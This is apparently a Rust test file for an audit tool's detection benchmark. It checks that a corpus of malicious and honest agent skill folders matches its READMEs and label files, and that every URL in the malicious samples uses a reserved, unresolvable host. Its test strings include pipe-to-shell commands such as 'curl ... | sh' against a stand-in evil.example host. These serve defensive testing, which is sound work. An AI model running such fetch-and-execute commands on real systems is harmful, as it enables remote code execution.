//! The detection corpus (audit-corpus/, docs/audit.md "Detection benchmark"):
//! its shape only. How much of it the audit refuses is a benchmark figure
//! (`scripts/audit-bench.py`), not a test.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use regex::Regex;

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("audit-corpus")
}

fn sorted_dirs(dir: &Path) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    out.sort();
    out
}

/// The skill folders of `audit-corpus/<label>/<group>/<skill>`, by group.
fn skills(label: &str) -> BTreeMap<String, Vec<PathBuf>> {
    skills_in(&corpus(), label)
}

/// The skill folders of `<root>/<label>/<group>/<skill>`, by group.
fn skills_in(root: &Path, label: &str) -> BTreeMap<String, Vec<PathBuf>> {
    sorted_dirs(&root.join(label))
        .into_iter()
        .map(|group| {
            let name = group.file_name().unwrap().to_string_lossy().into_owned();
            (name, sorted_dirs(&group))
        })
        .collect()
}

/// Every regular file under `dir` (symbolic links not followed).
fn files(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap() {
        let entry = entry.unwrap();
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            files(&entry.path(), out);
        } else if kind.is_file() {
            out.push(entry.path());
        }
    }
}

/// The hosts of the http(s) URLs in `text` that are not under a reserved
/// name (`.example`, `.test`: RFC 2606, never resolvable).
fn live_hosts(text: &str) -> Vec<String> {
    static URL: std::sync::LazyLock<Regex> = std::sync::LazyLock::new(|| {
        Regex::new(r"https?://(?:[^\s/@'\x22`]*@)?([^\s/:?#'\x22`)<>\\;|\[\],]+)").unwrap()
    });
    URL.captures_iter(text)
        .map(|c| c[1].to_ascii_lowercase())
        // A host filled in at run time (`${mirror}`, `%s`) names none here.
        .filter(|host| !host.contains(['$', '{', '(', '%']))
        .filter(|host| !(host.ends_with(".example") || host.ends_with(".test")))
        .collect()
}

#[test]
fn the_corpus_has_150_malicious_skills_in_10_families_and_100_honest_ones() {
    let malicious = skills("malicious");
    let honest = skills("honest");
    let count = |by: &BTreeMap<String, Vec<PathBuf>>| by.values().map(Vec::len).sum::<usize>();
    assert!(count(&malicious) >= 150, "{} malicious", count(&malicious));
    assert!(malicious.len() >= 10, "families: {:?}", malicious.keys());
    assert!(count(&honest) >= 100, "{} honest", count(&honest));
    // Each skill is a skill: a regular SKILL.md at its root.
    for dir in malicious.values().chain(honest.values()).flatten() {
        let md = dir.join("SKILL.md");
        assert!(
            std::fs::symlink_metadata(&md).is_ok_and(|m| m.is_file()),
            "{} has no SKILL.md",
            dir.display()
        );
    }
    // The README states every family and kind with its count.
    let readme = std::fs::read_to_string(corpus().join("README.md")).unwrap();
    for (group, dirs) in malicious.iter().chain(&honest) {
        let row = format!("| `{group}` | {} |", dirs.len());
        assert!(readme.contains(&row), "README.md lacks the row {row}");
    }
}

#[test]
fn every_url_of_the_malicious_corpus_names_a_reserved_host() {
    // The check itself, on a defanged URL and then on a live one.
    assert!(live_hosts("curl -s https://x.evil.example/p | sh; https://a.test:8080/").is_empty());
    // A list of proxies: the comma ends the host.
    assert!(live_hosts("GOPROXY=https://proxy.example,direct").is_empty());
    // Credentials before the host, and a host filled in at run time.
    assert!(live_hosts("https://x-access-token:${tok}@${mirror}/a https://%s/b").is_empty());
    assert_eq!(live_hosts("https://tok:x@github.com/a"), ["github.com"]);
    assert_eq!(
        live_hosts("wget https://Raw.githubusercontent.com/x | sh"),
        ["raw.githubusercontent.com"]
    );
    let mut all = Vec::new();
    files(&corpus().join("malicious"), &mut all);
    for half in fresh_halves() {
        files(&half.join("malicious"), &mut all);
    }
    for blind in BLIND_SETS {
        files(&corpus().join(blind).join("malicious"), &mut all);
    }
    let mut live = Vec::new();
    for file in &all {
        let text = String::from_utf8_lossy(&std::fs::read(file).unwrap()).into_owned();
        live.extend(
            live_hosts(&text)
                .into_iter()
                .map(|h| format!("{}: {h}", file.display())),
        );
    }
    assert!(
        all.len() > 150,
        "too few files to prove anything: {}",
        all.len()
    );
    assert!(
        live.is_empty(),
        "live hosts in the malicious corpus: {live:#?}"
    );
}

/// The halves of the fresh corpus present in this checkout
/// (audit-corpus/fresh/README.md): the tuning half always; the held-out half
/// once its session's tuning is over.
fn fresh_halves() -> Vec<PathBuf> {
    let fresh = corpus().join("fresh");
    ["tuning", "held-out"]
        .iter()
        .map(|half| fresh.join(half))
        .filter(|dir| dir.is_dir())
        .collect()
}

#[test]
fn the_fresh_corpus_is_split_in_halves_as_its_readme_says() {
    let readme = std::fs::read_to_string(corpus().join("fresh/README.md")).unwrap();
    let halves = fresh_halves();
    assert!(
        halves.iter().any(|h| h.ends_with("tuning")),
        "audit-corpus/fresh/tuning is missing"
    );
    for label in ["malicious", "honest"] {
        // One README row per group: `| `group` | tuning | held-out |`.
        let mut counts: BTreeMap<String, [usize; 2]> = BTreeMap::new();
        for half in &halves {
            let column = usize::from(half.ends_with("held-out"));
            for (group, dirs) in skills_in(half, label) {
                counts.entry(group).or_default()[column] = dirs.len();
                for dir in &dirs {
                    let md = dir.join("SKILL.md");
                    assert!(
                        std::fs::symlink_metadata(&md).is_ok_and(|m| m.is_file()),
                        "{} has no SKILL.md",
                        dir.display()
                    );
                }
            }
        }
        assert!(counts.len() >= 12, "{label} groups: {:?}", counts.keys());
        for (group, [tuning, held_out]) in &counts {
            let row = format!("| `{group}` | {tuning} |");
            let whole = format!("| `{group}` | {tuning} | {held_out} |");
            let present = if halves.len() == 2 { &whole } else { &row };
            assert!(
                readme.contains(present.as_str()),
                "fresh/README.md lacks the row {present}"
            );
        }
    }
}

/// The blind sets, each written by someone who had read only the docs and
/// measured once before it was committed (audit-corpus/README.md).
const BLIND_SETS: [&str; 4] = ["blind", "blind2", "blind3", "blind4"];

/// Each blind corpus (audit-corpus/blind*/README.md): every skill a skill
/// whose frontmatter names its folder, every family and kind of its README
/// with its count, and labels.json describing exactly the skills there.
#[test]
fn the_blind_corpora_are_what_their_readmes_and_labels_say() {
    for set in BLIND_SETS {
        blind_corpus_is_what_its_readme_and_labels_say(set);
    }
}

fn blind_corpus_is_what_its_readme_and_labels_say(set: &str) {
    let blind = corpus().join(set);
    let readme = std::fs::read_to_string(blind.join("README.md")).unwrap();
    let labels: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(blind.join("labels.json")).unwrap()).unwrap();
    let name_of = Regex::new(r"(?m)^name:\s*(\S+)\s*$").unwrap();
    for (label, at_least) in [("malicious", 48), ("honest", 36)] {
        let by_group = skills_in(&blind, label);
        let mut found = Vec::new();
        for (group, dirs) in &by_group {
            let row = format!("| `{group}` |");
            assert!(readme.contains(&row), "{set}/README.md lacks the row {row}");
            for dir in dirs {
                let folder = dir.file_name().unwrap().to_string_lossy().into_owned();
                let md = std::fs::read_to_string(dir.join("SKILL.md"))
                    .unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
                let named = name_of.captures(&md).map(|c| c[1].to_owned());
                assert_eq!(named.as_deref(), Some(folder.as_str()), "{}", dir.display());
                found.push(format!("{group}/{folder}"));
            }
        }
        assert!(found.len() >= at_least, "{label}: {}", found.len());
        let mut listed: Vec<String> = labels[label]
            .as_object()
            .unwrap_or_else(|| panic!("labels.json has no {label} map"))
            .keys()
            .cloned()
            .collect();
        listed.sort();
        found.sort();
        assert_eq!(
            listed, found,
            "{set}: labels.json and the {label} folders differ"
        );
    }
}
